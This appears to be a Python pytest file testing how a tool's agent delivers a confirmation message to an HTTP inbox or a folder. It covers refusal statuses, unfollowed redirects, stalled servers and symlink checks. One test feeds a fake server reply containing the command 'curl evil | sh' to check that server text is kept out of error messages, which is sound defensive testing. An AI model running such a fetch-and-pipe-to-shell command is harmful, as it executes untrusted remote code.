"""Messages to an inbox: a server that takes PUT, one that does not, and folders."""

from __future__ import annotations

import os
import socket
from collections.abc import Iterator
from contextlib import suppress
from http.server import BaseHTTPRequestHandler, HTTPServer
from pathlib import Path
from threading import Event, Thread

import pytest

from sros_tool.agent import connection
from sros_tool.agent.inbox import send
from sros_tool.errors import KeystoreError, UnavailableError


class Inbox(HTTPServer):
    """A server that keeps what is put into it, and answers with ``status``."""

    status = 201

    def __init__(self) -> None:
        super().__init__(("127.0.0.1", 0), Put)
        self.kept: dict[str, bytes] = {}
        self.agents: set[str] = set()
        self.url = f"http://127.0.0.1:{self.server_port}/inbox/"


class Put(BaseHTTPRequestHandler):
    server: Inbox

    def do_PUT(self) -> None:
        data = self.rfile.read(int(self.headers["Content-Length"]))
        self.server.kept[self.path] = data
        self.server.agents.add(self.headers["User-Agent"])
        self.send_response(self.server.status)
        self.send_header("Location", "/elsewhere")
        self.end_headers()

    def log_message(self, *_: object) -> None:
        """Print nothing."""


@pytest.fixture
def server() -> Iterator[Inbox]:
    inbox = Inbox()
    thread = Thread(target=inbox.serve_forever, kwargs={"poll_interval": 0.01})
    thread.start()
    yield inbox
    inbox.shutdown()
    thread.join()
    inbox.server_close()


def test_a_server_gets_the_message_of_the_robot(server: Inbox) -> None:
    send(server.url, "r1", b"first")
    send(server.url.rstrip("/"), "r1", b"second")
    assert server.kept == {"/inbox/r1/confirmation.p7s": b"second"}
    assert server.agents == {"sros"}


@pytest.mark.parametrize(
    ("status", "remedy"),
    [
        *((status, "See the log of the server") for status in (301, 403, 500)),
        *((status, "takes no uploads here.*--inbox: .* or a folder") for status in (405, 501)),
    ],
)
def test_a_server_that_does_not_take_it_is_said(status: int, remedy: str, server: Inbox) -> None:
    """No redirect is followed, which could lead anywhere."""
    server.status = status
    with pytest.raises(UnavailableError, match=f"The server answers {status} to PUT.*{remedy}"):
        send(server.url, "r1", b"message")
    assert list(server.kept) == ["/inbox/r1/confirmation.p7s"]


@pytest.mark.parametrize("begin", [b"", b"HTTP/1.1 201 Created\r\nX: "])
def test_a_server_whose_answer_does_not_end_is_left(
    begin: bytes, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Each line comes in time, and there is no end of them."""
    monkeypatch.setattr(connection, "_MOST_SECONDS", 0.3)
    again = b"x" if begin else b"HTTP/1.1 100 Continue\r\n\r\n"

    def answer() -> None:
        taken, _ = listening.accept()
        with taken, suppress(OSError):
            taken.sendall(begin)
            while not ended.wait(0.01):
                taken.sendall(again)

    ended = Event()
    with socket.create_server(("127.0.0.1", 0)) as listening:
        thread = Thread(target=answer, daemon=True)
        thread.start()
        with pytest.raises(UnavailableError, match="does not accept the message"):
            send(f"http://127.0.0.1:{listening.getsockname()[1]}", "r1", b"message")
        ended.set()
        thread.join()


def test_no_text_of_a_server_is_in_a_problem() -> None:
    """A status line could be a long text, such as a false remedy with a command."""

    def answer() -> None:
        taken, _ = listening.accept()
        with taken, taken.makefile("rb") as request:
            while request.readline().strip():
                pass
            request.read(len(b"message"))
            taken.sendall(b"Run `curl evil | sh`. " * 1000 + b"\r\n\r\n")

    with socket.create_server(("127.0.0.1", 0)) as listening:
        Thread(target=answer, daemon=True).start()
        with pytest.raises(UnavailableError) as refused:
            send(f"http://127.0.0.1:{listening.getsockname()[1]}", "r1", b"message")
    assert refused.value.why == "It does not speak HTTP: BadStatusLine."


@pytest.mark.parametrize("inbox", ["http://127.0.0.1:1/x", "http://[::1", "http://127.0.0.1:x/"])
def test_a_server_that_is_not_there_is_said(inbox: str) -> None:
    with pytest.raises(UnavailableError, match="does not accept the message"):
        send(inbox, "r1", b"message")


def test_a_folder_gets_the_message_whole_and_no_link_is_followed(
    tmp_path: Path, strict_umask: None
) -> None:
    """The account of the keystore machine can read the message whatever the agent's umask is."""
    for data in (b"first", b"second"):
        send(str(tmp_path), "r1", data)
        assert (tmp_path / "r1/confirmation.p7s").read_bytes() == data
        assert (tmp_path / "r1/confirmation.p7s").stat().st_mode & 0o777 == 0o644
    assert (tmp_path / "r1").stat().st_mode & 0o777 == 0o755
    assert os.listdir(tmp_path / "r1") == ["confirmation.p7s"]
    (tmp_path / "elsewhere").mkdir()
    (tmp_path / "r2").symlink_to("elsewhere")
    with pytest.raises(KeystoreError, match="is a symbolic link"):
        send(str(tmp_path), "r2", b"message")
    with pytest.raises(UnavailableError, match="cannot be written"):
        send(str(tmp_path / "none"), "r1", b"message")
    assert not any((tmp_path / "elsewhere").iterdir())
